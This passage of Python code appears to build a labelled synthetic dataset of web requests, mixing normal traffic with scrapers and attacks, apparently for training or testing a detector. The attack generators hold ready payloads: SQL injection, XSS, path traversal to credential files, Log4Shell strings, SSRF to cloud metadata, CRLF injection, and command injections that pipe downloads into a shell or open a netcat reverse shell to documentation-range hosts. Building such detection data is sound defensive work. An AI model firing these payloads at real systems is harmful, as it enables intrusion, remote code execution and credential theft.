    def scraper(self) -> dict:
        style = self.weighted([("script", 40), ("crawler", 25), ("spoofed", 20), ("headless", 15)])
        path, query = self.scrape_target()
        method = "HEAD" if self.p(0.015) else "GET"
        if style == "script":
            ua = self.choice(SCRAPER_SCRIPT_UAS) if not self.p(0.1) else None
            extra = ["cookie"] if self.p(0.08) else []
            if self.p(0.15):
                extra.append("accept-language")
            if path.startswith(("/api/", "/products.json")) and self.p(0.3):
                extra.append(self.choice(["authorization", "x-api-key"]))  # a free-tier key
            headers = self.thin_headers(accept=0.8, extra=extra, ua=ua is not None)
            rate = self.rate(8.0, 0.7, hi=200)
        elif style == "crawler":
            if self.p(0.45):
                ua = self.choice(SEARCH_CRAWLER_UAS)
                rate = self.rate(0.5, 0.9)
            else:
                ua = self.choice(SEO_CRAWLER_UAS)
                rate = self.rate(3.0, 0.9, hi=100)
            extra = []
            if self.p(0.4):
                extra.append("from")
            if self.p(0.3):
                extra.append("if-modified-since")
            if self.p(0.2):
                extra.append("accept-language")
            headers = self.thin_headers(accept=0.9, extra=extra)
        elif style == "spoofed":
            ua = self.choice(CHROMIUM_UAS + OLD_BROWSER_UAS + FIREFOX_UAS)
            extra = ["accept-language"] if self.p(0.5) else []
            if self.p(0.2):
                extra.append("referer")
            if self.p(0.1):
                extra.append("cookie")
            if self.p(0.1):
                extra.append("upgrade-insecure-requests")
            headers = self.thin_headers(accept=0.95, extra=extra)
            rate = self.rate(5.0, 0.8, hi=150)
        else:
            ua = self.choice(HEADLESS_UAS + CHROMIUM_UAS[:2])
            headers = self.browser_headers(ua, "navigate", cookie=0.4, referer=0.5)
            rate = self.rate(4.0, 0.8, hi=100)
        return dict(method=method, path=path, query=query, headers=headers, ua=ua, rate=rate)

    # ------------------------------------------------------------- attacks
    def payload_encode(self, payload: str) -> str:
        """Put a payload into a query value the way attack tools do."""
        style = self.weighted([("form", 4), ("full", 3), ("raw", 2), ("lower", 1)])
        if self.p(0.35):
            payload = self.random_case(payload)
        if style == "form":
            return self.form_value(payload)
        if style == "full":
            return self.pct(payload)
        if style == "lower":
            return self.pct(payload, upper=False)
        # raw: only what would break the request line is encoded
        return payload.replace(" ", "%20").replace("#", "%23").replace("&", "%26")

    def sqli_payload(self) -> str:
        n = self.r.randint(1, 9)
        return self.choice([
            "1' OR '1'='1", "1' or 1=1-- -", "admin'--", "1 UNION SELECT null,username,password FROM users",
            f"{n}' UNION ALL SELECT NULL,NULL,@@version-- ", "1; WAITFOR DELAY '0:0:5'--",
            f"{n} AND SLEEP(5)", "1' AND extractvalue(1,concat(0x7e,version()))-- ",
            f"-{n} union/**/select 1,2,group_concat(table_name) from information_schema.tables",
            "1') OR ('1'='1", "' OR 'x'='x", f"{n}' AND (SELECT 1 FROM pg_sleep(5))--",
            "1 AND 1=BENCHMARK(5000000,MD5(1))", "1';DROP TABLE users--",
            "1\" or \"1\"=\"1",
        ])

    def xss_payload(self) -> str:
        return self.choice([
            "<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
            "'><iframe src=javascript:alert(1)>", "<body onload=alert('xss')>",
            "\"onmouseover=\"alert(1)", "<ScRiPt>prompt(1)</sCrIpT>",
            "<details open ontoggle=confirm(1)>",  # no token: a miss by design
        ])

    def traversal_payload(self) -> str:
        depth = self.r.randint(2, 8)
        target = self.choice(["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ",
                              "etc/hosts", "boot.ini", "var/www/html/.env", "WEB-INF/web.xml"])
        sep = self.weighted([("../", 8), ("..\\", 1), ("..;/", 1), ("....//", 1)])
        return sep * depth + target

    def log4shell_payload(self) -> str:
        host = f"{self.hexs(8)}.{self.choice(['oast.example', 'interact.example', 'dnslog.example'])}"
        return self.choice([
            f"${{jndi:ldap://{host}/a}}", f"${{jndi:dns://{host}}}", f"${{jndi:rmi://{host}/x}}",
            f"${{${{lower:j}}ndi:${{lower:l}}dap://{host}/a}}", f"${{${{::-j}}${{::-n}}di:ldap://{host}/x}}",
            f"${{jndi:ldap://${{env:USER}}.{host}/a}}", f"${{${{upper:j}}ndi:ldap://{host}/}}",
        ])

    def cmd_payload(self) -> str:
        return self.choice([
            ";cat /etc/passwd", "|id", "$(id)", "`whoami`", ";wget http://203.0.113.5/x.sh -O- |sh",
            "&& curl http://203.0.113.7/a | bash", "; ls -la", "|nc -e /bin/sh 203.0.113.9 4444",
            "127.0.0.1;id;", "1|cat /etc/hosts",
        ])

    PROBE_PATHS = [
        "/.env", "/.env.production", "/.env.local", "/api/.env", "/.git/config", "/.git/HEAD",
        "/.svn/entries", "/.aws/credentials", "/.DS_Store", "/.htaccess", "/.htpasswd",
        "/wp-login.php", "/wp-admin/", "/wp-admin/admin-ajax.php", "/xmlrpc.php", "/wp-config.php.bak",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/", "/phpmyadmin/", "/pma/index.php",
        "/phpinfo.php", "/info.php", "/admin.php", "/index.php?s=/Index/\\think\\app/invokefunction",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale",
        "/actuator/env", "/actuator/health", "/server-status", "/config.json", "/backup.sql",
        "/db.sql", "/backup.zip", "/site.tar.gz", "/solr/admin/info/system", "/console/", "/manager/html",
        "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx", "/autodiscover/autodiscover.xml",
        "/.well-known/security.txt", "/admin/", "/administrator/", "/login.action", "/jenkins/login",
        "/sftp-config.json", "/docker-compose.yml", "/config/database.yml", "/.vscode/sftp.json",
        "/telescope/requests", "/_ignition/execute-solution", "/api/v1/pods", "/druid/index.html",
    ]

    def attack(self) -> dict:
        kind = self.weighted([("sqli", 18), ("xss", 13), ("traversal", 10), ("log4shell", 7),
                              ("probe", 22), ("cmd", 5), ("stuffing", 15), ("recon", 4),
                              ("ssrf", 3), ("body", 2), ("double", 1), ("ctrl", 4), ("enum", 3)])
        method, query = "GET", None
        ua_kind = self.weighted([("scanner", 25), ("script", 25), ("browser", 42), ("missing", 5),
                                 ("other", 3)])
        ua_payload = None
        param = self.choice(["id", "q", "search", "item", "cat", "user", "file", "page", "lang",
                             "sort", "redirect", "name", "product_id", "s", "query"])
        base = self.weighted([(self.page_path(), 3), (self.choice(["/search", "/index.php", "/product.php",
                                                                     "/view", "/download", "/api/v1/items"]), 4)])
        path = base

        def in_query(payload: str) -> str:
            q = f"{param}={self.payload_encode(payload)}"
            if self.p(0.3):
                q = f"{self.choice(['lang=en', 'page=1', 'sort=asc', 'v=2'])}&" + q
            return q

        if kind in ("sqli", "xss", "cmd"):
            payload = {"sqli": self.sqli_payload, "xss": self.xss_payload, "cmd": self.cmd_payload}[kind]()
            where = self.weighted([("query", 80), ("path", 15), ("ua", 5)])
            if where == "query":
                query = in_query(payload)
            elif where == "path":
                path = base.rstrip("/") + "/" + self.pct(payload)
            else:
                ua_payload = payload
                query = f"{param}={self.r.randint(1, 99)}"
            if kind == "xss" and self.p(0.15):
                method = "POST"
                query = in_query(payload)
        elif kind == "traversal":
            payload = self.traversal_payload()
            if self.p(0.5):
                path = self.choice(["/download", "/static", "/files", "/image", "/include"]) + "/" + \
                    self.weighted([(payload, 2), (self.pct(payload, safe="/"), 1), (self.pct(payload), 1),
                                   (self.dots(payload), 2)])
            else:
                param = self.choice(["file", "path", "page", "template", "doc", "include", "lang"])
                query = in_query(payload)
        elif kind == "log4shell":
            payload = self.log4shell_payload()
            where = self.weighted([("ua", 40), ("query", 45), ("path", 15)])
            if where == "ua":
                ua_payload = payload
            elif where == "query":
                query = in_query(payload)
            else:
                path = "/" + self.pct(payload)
        elif kind == "probe":
            path = self.choice(self.PROBE_PATHS)
            if "?" in path:
                path, query = path.split("?", 1)
                query = self.pct(query, safe="=/")
            if self.p(0.15):
                path = self.random_case(path, 0.3)
            method = "POST" if self.p(0.08) else "GET"
            ua_kind = self.weighted([("scanner", 25), ("script", 35), ("browser", 30), ("missing", 10)])
        elif kind == "stuffing":
            method = "POST"
            path = self.choice(["/login", "/account/login", "/api/v1/auth/login", "/signin",
                                "/user/login", "/api/login", "/session", "/oauth/token", "/wp-login.php"])
            ua_kind = self.weighted([("browser", 65), ("script", 30), ("other", 5)])
        elif kind == "recon":  # scanner fingerprinting ordinary pages
            path = self.page_path() if self.p(0.7) else self.choice(["/", "/robots.txt", "/favicon.ico",
                                                                     "/sitemap.xml", "/nonexistent-" + self.hexs(6)])
            method = self.choice(["GET", "GET", "HEAD", "OPTIONS", "PROPFIND", "TRACE", "DEBUG"])
            ua_kind = "scanner" if self.p(0.8) else "script"
        elif kind == "ssrf":
            param = self.choice(["url", "redirect", "next", "callback", "image_url", "dest"])
            target = self.choice(["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                                  "http://127.0.0.1:6379/", "file:///etc/passwd", "gopher://127.0.0.1:25/",
                                  "http://metadata.google.internal/computeMetadata/v1/",
                                  "//evil.example/%2f..", "https://evil.example/phish"])
            query = f"{param}={self.payload_encode(target)}"
        elif kind == "ctrl":  # CRLF (header/log injection) and NUL-byte truncation
            path, query = self.choice([
                ("/redirect", "url=%0d%0aSet-Cookie:%20session=" + self.hexs(8)),
                ("/%0D%0ALocation:%20https://evil.example/", None),
                (base, f"lang=en%0d%0aX-Injected:%20{self.r.randint(1, 9)}"),
                ("/download", "file=" + self.traversal_payload().replace("/", "%2F") + "%00.png"),
                (self.choice(["/index.php%00.txt", "/static/app.js%00", "/uploads/shell.php%00.jpg"]), None),
                ("/login", "user=admin%0a[INFO]%20login%20ok"),
                ("/image", "name=avatar.png%00" + self.choice(["", ".php", "%0a"])),
            ])
        elif kind == "enum":  # IDOR / object enumeration with a (stolen or own) token
            path = f"/api/v1/{self.choice(['users', 'orders', 'invoices', 'accounts'])}/{self.r.randint(1, 99999)}"
            ua_kind = self.weighted([("script", 60), ("browser", 30), ("other", 10)])
        elif kind == "body":  # payload in a POST body: invisible to these features
            method = "POST"
            path = self.choice(["/search", "/contact", "/api/v1/comments", "/reviews", "/graphql"])
        else:  # double-encoded traversal: decoding once leaves %2e%2e%2f
            path = "/static/" + self.dots(self.traversal_payload()).replace("%", "%25")

        if ua_payload is not None:
            ua = ua_payload if self.p(0.5) else self.choice(OLD_BROWSER_UAS) + " " + ua_payload
            headers = self.thin_headers(accept=0.7)
            rate = self.rate(3.0, 1.0, hi=300)
        elif ua_kind == "scanner":
            ua = self.choice(SCANNER_UAS)
            headers = self.thin_headers(accept=0.8, extra=["content-type"] if method == "POST" else [])
            rate = self.rate(10.0, 0.9, hi=500)
        elif ua_kind in ("script", "missing", "other"):
            ua = {"script": lambda: self.choice(SCRIPT_UAS), "missing": lambda: None,
                  "other": lambda: self.choice(APP_UAS + ["Mozilla/5.0", "-", "Hello, World",
                                                           "xfa1", "Custom-AsyncHttpClient"])}[ua_kind]()
            headers = self.thin_headers(accept=0.6, ua=ua is not None,
                                        extra=["content-type", "content-length"] if method == "POST" else [])
            rate = self.rate(6.0, 1.0, hi=500)
        else:
            ua = self.choice(CHROMIUM_UAS + FIREFOX_UAS + OLD_BROWSER_UAS + SAFARI_UAS[:2])
            if self.p(0.45):  # a person driving a browser or an intercepting proxy
                headers = self.browser_headers(ua, "form" if method == "POST" else "navigate",
                                               cookie=0.6, referer=0.5, body=method == "POST")
                rate = self.rate(0.8, 0.9, hi=50)
            else:  # a tool that only borrowed a browser's UA
                headers = self.thin_headers(accept=0.9, extra=(["content-type", "content-length"]
                                                               if method == "POST" else [])
                                            + (["accept-language"] if self.p(0.4) else []))
                rate = self.rate(5.0, 1.0, hi=500)
        if kind == "enum":
            headers.append("authorization")
            rate = self.rate(12.0, 0.8, hi=300)
        if kind == "stuffing":
            if self.p(0.2):  # low and slow, spread over many addresses
                rate = self.rate(0.4, 0.7)
            else:
                rate = self.rate(8.0, 0.8, hi=300)
            if "cookie" not in headers and self.p(0.3):
                headers.append("cookie")
        return dict(method=method, path=path, query=query, headers=headers, ua=ua, rate=rate)


def generate(seed: int = SEED) -> List[dict]:
    g = Gen(seed)
    makers: dict[str, Callable[[], dict]] = {
        "browse": g.browse, "purchase": g.purchase, "api": g.api, "scraper": g.scraper, "attack": g.attack,
    }
    rows = []
    for label, n in COUNTS.items():
        for _ in range(n):
            req = makers[label]()
            req["label"] = label
            rows.append(req)
    g.r.shuffle(rows)
    return rows


def write(rows: List[dict], path: str = OUT) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    text = io.StringIO()
    w = csv.writer(text, lineterminator="\n")
    w.writerow(COLUMNS)
    for r in rows:
        w.writerow([r["label"], r["method"], r["path"], r["query"] or "", int(r["query"] is not None),
                    ";".join(r["headers"]), r["ua"] or "", int(r["ua"] is not None), repr(r["rate"])])
    with open(path, "wb") as f:
        # mtime=0 and no file name: the same rows give the same bytes.
        with gzip.GzipFile(filename="", mode="wb", fileobj=f, mtime=0, compresslevel=9) as gz:
            gz.write(text.getvalue().encode("utf-8"))


def read(path: str = OUT) -> List[dict]:
    """Rows of the corpus as dicts with ``query``/``user_agent`` set to None when absent."""
    with gzip.open(path, "rt", encoding="utf-8", newline="") as f:
        out = []
        for r in csv.DictReader(f):
            out.append(dict(
                label=r["label"], method=r["method"], path=r["path"],
                query=r["query"] if r["query_present"] == "1" else None,
                header_names=[h for h in r["header_names"].split(";") if h],
                user_agent=r["user_agent"] if r["ua_present"] == "1" else None,
                recent_rate=float(r["recent_rate"]),
            ))
        return out


def main() -> None:
    rows = generate()
    write(rows)
    counts = {k: 0 for k in COUNTS}
    for r in rows:
        counts[r["label"]] += 1
    print(f"wrote {len(rows)} rows to {OUT} ({os.path.getsize(OUT)} bytes): {counts}")


if __name__ == "__main__":
    main()
